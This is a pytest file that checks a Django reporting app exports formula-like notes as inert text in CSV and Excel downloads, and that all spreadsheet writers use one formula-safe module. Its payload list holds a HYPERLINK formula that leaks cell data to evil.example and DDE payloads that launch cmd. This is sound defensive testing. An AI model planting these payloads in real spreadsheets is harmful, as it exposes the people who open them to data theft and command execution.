"""Formula injection, end to end (issue 11, defect 5): text typed where a note goes and beginning
like a formula (=HYPERLINK(...), +…, -…, @…) is saved through the real write paths (the entry
page, the API) and comes back in every download — the entry template and export, a dashboard
table, the API's tables of actuals, task reports and commitments — as text, never as a live
formula: typed as text in a real .xlsx opened with openpyxl, behind an apostrophe in a real .csv
read with the csv module. And every writer of a download is the one formula-safe writer
(common/spreadsheets.py): a module that writes a workbook or a CSV another way fails here.
"""

from __future__ import annotations

import ast
import csv
import io
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from indicators.catalogue.services import tokens
from indicators.catalogue.services.tokens import api_token_create
from indicators.entry import services
from indicators.models import Actual
from tests.indicators.entry_world import YEAR, make_world
from tests.proposals.factories import CommitmentFactory

pytestmark = pytest.mark.django_db

NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看来源")'
PAYLOADS = [NOTE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def own_throttle_counters(settings):
    settings.CACHES = {
        **settings.CACHES,
        "default": {**settings.CACHES["default"], "KEY_PREFIX": f"test-{uuid.uuid4().hex}"},
    }
    tokens._remembered.clear()


def api_client(user) -> APIClient:
    _, key = api_token_create(client_name="测试系统", user=user, read_only=False)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client


def note_typed_on_the_entry_page(client, w, note: str) -> None:
    """The county clerk types the note beside a value on the entry page and saves."""
    p = f"r{w.count.pk}"
    client.force_login(w.county)
    response = client.post(
        reverse("entry:home") + f"?year={YEAR}&region={w.county_region.code}",
        {
            "year": YEAR,
            "region": w.county_region.code,
            "action": "save",
            f"{p}-value": "1500",
            f"{p}-version": "0",
            f"{p}-source_note": note,
            f"{p}-explanation": "",
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]


def note_sent_through_the_api(w, note: str) -> None:
    """The bureau's system sends the city's value with the same note."""
    response = api_client(w.bureau).post(
        "/api/v1/actuals/",
        {"indicator": "K4", "region": "330300", "year": YEAR, "value": 4200, "source_note": note},
        format="json",
    )
    assert response.status_code == 201, response.json()


@pytest.fixture
def w(client):
    world = make_world()
    # Given a note beginning like a formula, saved by the entry page and by the API
    note_typed_on_the_entry_page(client, world, NOTE)
    note_sent_through_the_api(world, NOTE)
    assert set(Actual.objects.values_list("source_note", flat=True)) == {NOTE}
    client.logout()
    return world


# --- reading a download back -------------------------------------------------------------------
def workbook_column(content: bytes, header: str, *, sheet: str | None = None):
    """The cells under `header` of a real .xlsx (the header row found where it is)."""
    book = load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.worksheets[0]
    for header_row in ws.iter_rows(min_row=1, max_row=10):
        titles = [c.value for c in header_row]
        if header in titles:
            column = titles.index(header)
            return [
                row[column]
                for row in ws.iter_rows(min_row=header_row[0].row + 1)
                if row[column].value not in (None, "")
            ]
    raise AssertionError(f"no column {header!r} in {ws.title}")


def csv_column(content: bytes, header: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    column = rows[0].index(header)
    return [row[column] for row in rows[1:] if row[column]]


def assert_inert_cells(cells, text: str = NOTE, count: int | None = None):
    assert cells, "the note is not in the download"
    if count is not None:
        assert len(cells) == count
    for cell in cells:
        # Typed as text ("s"), not a formula ("f"); the value itself is what was typed.
        assert cell.data_type == "s", f"{cell.coordinate} is typed {cell.data_type!r}"
        assert cell.value == text


def assert_inert_csv(values, text: str = NOTE, count: int | None = None):
    assert values, "the note is not in the download"
    if count is not None:
        assert len(values) == count
    assert all(value == "'" + text for value in values), values


# --- the entry area ----------------------------------------------------------------------------
def test_the_entry_template_holds_the_note_as_text(client, w):
    client.force_login(w.county)
    response = client.get(reverse("entry:template"), {"year": YEAR})
    assert response.status_code == 200
    assert_inert_cells(workbook_column(response.content, "数据来源说明", sheet="填报"), count=1)


def test_the_entry_export_holds_the_note_as_text(client, w):
    client.force_login(w.bureau)
    response = client.get(reverse("entry:export"), {"year": YEAR})
    assert response.status_code == 200
    assert_inert_cells(workbook_column(response.content, "数据来源说明"), count=2)


def test_the_template_uploaded_back_keeps_the_note_as_it_was_typed(client, w):
    # Given the template as downloaded, with the note, and the value changed
    client.force_login(w.county)
    book = load_workbook(io.BytesIO(client.get(reverse("entry:template"), {"year": YEAR}).content))
    sheet = book["填报"]
    titles = [c.value for c in sheet[3]]
    for row in sheet.iter_rows(min_row=4):
        if row[titles.index("指标代码")].value == "K4":
            row[titles.index("本年值")].value = 1600
    buffer = io.BytesIO()
    book.save(buffer)
    # When it is uploaded
    response = client.post(
        reverse("entry:import"),
        {"year": YEAR, "file": SimpleUploadedFile("模板.xlsx", buffer.getvalue())},
    )
    # Then the value changes and the note is still exactly what was typed (no added apostrophe)
    assert response.status_code == 302, response.content.decode()[:1000]
    actual = Actual.objects.get(region=w.county_region)
    assert (actual.value, actual.source_note) == (Decimal(1600), NOTE)


# --- the dashboards ----------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_dashboard_table_holds_the_note_as_text(client, w, fmt):
    for actual in Actual.objects.all():  # the dashboards show reviewed values
        actual = services.review_submit(user=actual.entered_by, obj=actual)
        services.review_approve(user=w.reviewer, obj=actual)
    client.force_login(w.leader)
    response = client.get(
        reverse("dashboards:indicator", args=[w.count.code]),
        {"year": YEAR, "format": fmt, "table": "actuals"},
    )
    assert response.status_code == 200
    if fmt == "csv":
        assert_inert_csv(csv_column(response.content, "数据来源说明"))
    else:
        assert_inert_cells(workbook_column(response.content, "数据来源说明"))


# --- the API -----------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_apis_actuals_hold_the_note_as_text(w, fmt):
    response = api_client(w.leader).get("/api/v1/actuals/", {"format": fmt, "header": "key"})
    assert response.status_code == 200
    if fmt == "csv":
        assert_inert_csv(csv_column(response.content, "source_note"), count=2)
    else:
        assert_inert_cells(workbook_column(response.content, "source_note"), count=2)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_apis_task_reports_hold_the_report_text_as_text(w, payload, fmt):
    # Given a task report whose text begins like a formula, sent through the API
    sent = api_client(w.bureau).post(
        "/api/v1/task-reports/",
        {
            "task": w.task.pk,
            "unit": w.bureau_unit.pk,
            "year": YEAR,
            "status": "on_schedule",
            "percent": 40,
            "text": payload,
        },
        format="json",
    )
    assert sent.status_code == 201, sent.json()
    # When the task reports are downloaded
    response = api_client(w.leader).get("/api/v1/task-reports/", {"format": fmt, "header": "key"})
    # Then the text is text
    assert response.status_code == 200
    if fmt == "csv":
        assert_inert_csv(csv_column(response.content, "text"), payload, count=1)
    else:
        assert_inert_cells(workbook_column(response.content, "text"), payload, count=1)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_apis_commitments_hold_their_text_as_text(w, fmt):
    CommitmentFactory(text=NOTE, reply__handling_unit=w.bureau_unit)
    response = api_client(w.leader).get("/api/v1/commitments/", {"format": fmt, "header": "key"})
    assert response.status_code == 200
    if fmt == "csv":
        assert_inert_csv(csv_column(response.content, "text"), count=1)
    else:
        assert_inert_cells(workbook_column(response.content, "text"), count=1)


# --- one writer --------------------------------------------------------------------------------
WRITER = ROOT / "common" / "spreadsheets.py"
HELPERS = {"xlsx_row", "xlsx_cell", "make_inert"}


def application_modules():
    for package in ("common", "indicators", "proposals", "wzsci"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if "migrations" not in path.parts and path != WRITER:
                yield path


def writer_problems(path: Path, root: Path = ROOT) -> list[str]:
    """What in a module writes a spreadsheet or a CSV past the one formula-safe writer."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    name = path.relative_to(root)
    problems = []
    imported = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
        for alias in node.names
    }
    builds_workbook = "Workbook" in imported
    if builds_workbook and not imported & HELPERS:
        problems.append(f"{name}: builds a Workbook without xlsx_row / xlsx_cell")
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = node.func.value
            if (
                isinstance(owner, ast.Name)
                and owner.id == "csv"
                and node.func.attr in {"writer", "DictWriter"}
            ):
                problems.append(f"{name}:{node.lineno}: csv.{node.func.attr} (use csv_bytes)")
            writes_value = any(k.arg == "value" for k in node.keywords) or len(node.args) > 2
            if builds_workbook and node.func.attr == "cell" and writes_value:
                problems.append(f"{name}:{node.lineno}: .cell(value=…) (use xlsx_cell)")
        if builds_workbook and isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    problems.append(f"{name}:{node.lineno}: cell.value = … (use xlsx_cell)")
    return problems


def test_every_download_is_written_by_the_one_formula_safe_writer():
    modules = list(application_modules())
    assert len(modules) > 50  # the scan sees the application
    problems = [p for path in modules for p in writer_problems(path)]
    assert problems == []


def test_the_scan_would_catch_a_writer_of_its_own(tmp_path):
    rogue = tmp_path / "rogue.py"
    rogue.write_text(
        "import csv\nfrom openpyxl import Workbook\n"
        "def f(out, rows):\n"
        "    csv.writer(out).writerows(rows)\n"
        "    ws = Workbook().active\n"
        "    ws.cell(row=1, column=1, value='=1+1')\n"
        "    ws['A2'].value = '=2+2'\n",
        encoding="utf-8",
    )
    problems = writer_problems(rogue, root=tmp_path)
    assert len(problems) == 4, problems
